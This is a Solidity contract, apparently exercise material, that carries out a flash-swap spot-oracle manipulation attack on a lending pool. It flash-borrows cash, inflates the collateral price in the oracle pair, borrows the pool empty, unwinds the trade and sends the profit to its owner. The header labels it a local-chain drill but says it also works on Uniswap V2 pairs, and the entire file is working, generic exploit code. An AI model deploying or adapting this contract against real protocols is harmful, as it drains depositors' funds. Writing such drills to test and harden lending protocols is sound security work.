// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";

interface IFlashPair {
    function token0() external view returns (address);
    function getReserves() external view returns (uint112, uint112, uint32);
    function swap(uint256 amount0Out, uint256 amount1Out, address to, bytes calldata data) external;
}

interface ISpotPool {
    function collateral() external view returns (address);
    function cash() external view returns (address);
    function addCollateral(uint256 amount) external;
    function borrow(uint256 amount) external;
    function borrowLimit(address account) external view returns (uint256);
}

/// @title SpotOracleAttack
/// @notice Drill attack (D5), for local chains only. One transaction: flash-swap cash out of a funding pair, buy collateral in the pair
/// the pool prices by, deposit just enough of it at the inflated price, borrow the pool empty, sell the rest back, repay.
/// Works on {DemoPair} and on Uniswap V2 pairs.
contract SpotOracleAttack {
    using SafeERC20 for IERC20;

    address public immutable OWNER;
    address private transient _fundingPair;

    error NotOwner();
    error NotExpected();
    error NoProfit();

    constructor() {
        OWNER = msg.sender;
    }

    /// @param fundingPair pair that holds the pool's cash token and lends it for the transaction
    /// @param oraclePair pair the pool reads its price from
    /// @param flashAmount cash to borrow from `fundingPair`
    function attack(address fundingPair, address oraclePair, address pool, uint256 flashAmount) external {
        if (msg.sender != OWNER) revert NotOwner();
        address cash = ISpotPool(pool).cash();
        bool cashFirst = IFlashPair(fundingPair).token0() == cash;
        _fundingPair = fundingPair;
        IFlashPair(fundingPair).swap(
            cashFirst ? flashAmount : 0, cashFirst ? 0 : flashAmount, address(this), abi.encode(oraclePair, pool)
        );
        _fundingPair = address(0);
        uint256 profit = IERC20(cash).balanceOf(address(this));
        if (profit == 0) revert NoProfit();
        IERC20(cash).safeTransfer(OWNER, profit);
    }

    function uniswapV2Call(address sender, uint256 amount0, uint256 amount1, bytes calldata data) external {
        if (msg.sender != _fundingPair || sender != address(this)) revert NotExpected();
        (address oraclePair, address pool) = abi.decode(data, (address, address));
        uint256 borrowed = amount0 + amount1;
        address cash = ISpotPool(pool).cash();
        address coll = ISpotPool(pool).collateral();
        uint256 bought = _sell(oraclePair, cash, borrowed);
        _borrowAll(pool, cash, coll, bought);
        uint256 rest = IERC20(coll).balanceOf(address(this));
        if (rest != 0) _sell(oraclePair, coll, rest);
        // Same-token repayment of a 0.3 % fee pair, rounded up.
        IERC20(cash).safeTransfer(msg.sender, borrowed * 1000 / 997 + 1);
    }

    function _borrowAll(address pool, address cash, address coll, uint256 bought) private {
        uint256 loot = IERC20(cash).balanceOf(pool);
        IERC20(coll).forceApprove(pool, bought);
        // The limit is linear in the collateral: probe with a hundredth, then add what is missing.
        uint256 probe = bought / 100;
        ISpotPool(pool).addCollateral(probe);
        uint256 limit = ISpotPool(pool).borrowLimit(address(this));
        uint256 needed = limit == 0 ? bought : probe * loot / limit + 2;
        if (needed > bought) needed = bought;
        if (needed > probe) ISpotPool(pool).addCollateral(needed - probe);
        limit = ISpotPool(pool).borrowLimit(address(this));
        ISpotPool(pool).borrow(limit < loot ? limit : loot);
    }

    function _sell(address pair, address tokenIn, uint256 amountIn) private returns (uint256 out) {
        (uint112 r0, uint112 r1,) = IFlashPair(pair).getReserves();
        bool first = IFlashPair(pair).token0() == tokenIn;
        (uint256 rIn, uint256 rOut) = first ? (uint256(r0), uint256(r1)) : (uint256(r1), uint256(r0));
        out = amountIn * 997 * rOut / (rIn * 1000 + amountIn * 997);
        IERC20(tokenIn).safeTransfer(pair, amountIn);
        IFlashPair(pair).swap(first ? 0 : out, first ? out : 0, address(this), "");
    }
}
